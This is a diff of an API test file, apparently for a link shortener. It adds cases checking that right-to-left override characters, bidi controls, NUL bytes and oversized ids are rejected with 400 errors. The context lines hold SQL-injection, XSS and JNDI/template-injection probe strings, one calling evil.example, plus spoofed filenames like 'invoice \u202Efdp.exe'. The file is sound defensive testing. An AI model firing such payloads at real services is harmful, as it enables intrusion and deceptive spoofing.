@@ -28,6 +28,7 @@ const ONE = `${LINK}/${EXISTING}`
 
 const SQL = "x'; drop table links; --"
 const XSS = '<script>alert(1)</script>'
+// biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
 const TEMPLATE = '${jndi:ldap://evil.example/a}{{7*7}}'
 const RTL = 'https://example.com/\u202Egnp.exe'
 const HUGE = 'a'.repeat(70 * 1024)
@@ -130,6 +131,13 @@ const links: Case[] = [
     field: 'title',
   },
   {
+    name: 'title with a right-to-left override',
+    url: LINK,
+    body: { url: 'https://example.com', title: 'invoice \u202Efdp.exe' },
+    status: 400,
+    field: 'title',
+  },
+  {
     name: 'title of 301 characters',
     url: LINK,
     body: { url: 'https://example.com', title: 't'.repeat(301) },
@@ -189,6 +197,13 @@ const links: Case[] = [
     name: 'campaign with a NUL byte',
     url: LINK,
     body: { url: 'https://example.com', campaign: '\u0000' },
+    status: 400,
+    field: 'campaign',
+  },
+  {
+    name: 'campaign with a bidi isolate',
+    url: LINK,
+    body: { url: 'https://example.com', campaign: 'spring\u2067sale' },
     status: 400,
     field: 'campaign',
   },
@@ -363,6 +378,13 @@ const keys: Case[] = [
     name: 'key name with a NUL byte',
     url: KEYS,
     body: { name: 'a\u0000', scopes: ['links:read'] },
+    status: 400,
+    field: 'name',
+  },
+  {
+    name: 'key name with a right-to-left override',
+    url: KEYS,
+    body: { name: 'cms\u202Enimda', scopes: ['links:read'] },
     status: 400,
     field: 'name',
   },
@@ -548,7 +570,83 @@ const reads: Case[] = [
   },
 ]
 
-const CASES = [...links, ...linkChanges, ...keys, ...shares, ...reads]
+// Issue 13 (8): what Postgres cannot take (NUL in text, ids past int8) is a 400 naming the field, never a 500.
+const INT8_PAST_MAX = '9223372036854775808'
+const nulAndBigIds: Case[] = [
+  { name: 'search with a NUL byte', method: 'GET', url: `${LINK}?q=a%00b`, status: 400, field: 'q' },
+  { name: 'link code with a NUL byte', method: 'GET', url: `${LINK}/a%00b`, status: 400, field: 'code' },
+  { name: 'stats of a code with a NUL byte', method: 'GET', url: `${LINK}/a%00b/stats`, status: 400, field: 'code' },
+  {
+    name: 'export of a link code with a NUL byte',
+    method: 'GET',
+    url: '/api/v1/exports/clicks.csv?link=a%00b',
+    status: 400,
+    field: 'link',
+  },
+  {
+    name: 'revoke a 19-digit key id past int8',
+    method: 'DELETE',
+    url: `${KEYS}/${INT8_PAST_MAX}`,
+    status: 400,
+    field: 'id',
+  },
+  {
+    name: 'retag a 19-digit kit id past int8',
+    method: 'PATCH',
+    url: `${SHARES}/9999999999999999999`,
+    body: { title: 'x' },
+    status: 400,
+    field: 'id',
+  },
+  {
+    name: 'content report of an id past int8',
+    method: 'GET',
+    url: `/api/v1/reports/content/${INT8_PAST_MAX}`,
+    status: 400,
+    field: 'id',
+  },
+  {
+    name: 'funnel report of a content id past int8',
+    method: 'GET',
+    url: `/api/v1/reports/funnel?content=${INT8_PAST_MAX}`,
+    status: 400,
+    field: 'content',
+  },
+  {
+    name: 'list with a cursor past int8',
+    method: 'GET',
+    url: `${LINK}?cursor=${Buffer.from(INT8_PAST_MAX).toString('base64url')}`,
+    status: 400,
+    field: 'cursor',
+  },
+  {
+    name: 'kit list with a cursor past int8',
+    method: 'GET',
+    url: `${SHARES}?cursor=${Buffer.from('9999999999999999999').toString('base64url')}`,
+    status: 400,
+    field: 'cursor',
+  },
+]
+
+// Bidi controls reorder what a reader sees (a share text, a key list): refused like in URLs.
+const bidi: Case[] = [
+  {
+    name: 'share kit title with a right-to-left mark',
+    url: SHARES,
+    body: { url: 'https://example.com/a', title: 'a\u200Fb' },
+    status: 400,
+    field: 'title',
+  },
+  {
+    name: 'key name with a left-to-right embedding',
+    url: KEYS,
+    body: { name: 'cms\u202A', scopes: ['links:read'] },
+    status: 400,
+    field: 'name',
+  },
+]
+
+const CASES = [...links, ...linkChanges, ...keys, ...shares, ...reads, ...nulAndBigIds, ...bidi]
 
 let t: TestApp
 let scratch: Awaited<ReturnType<typeof createScratchDatabase>>
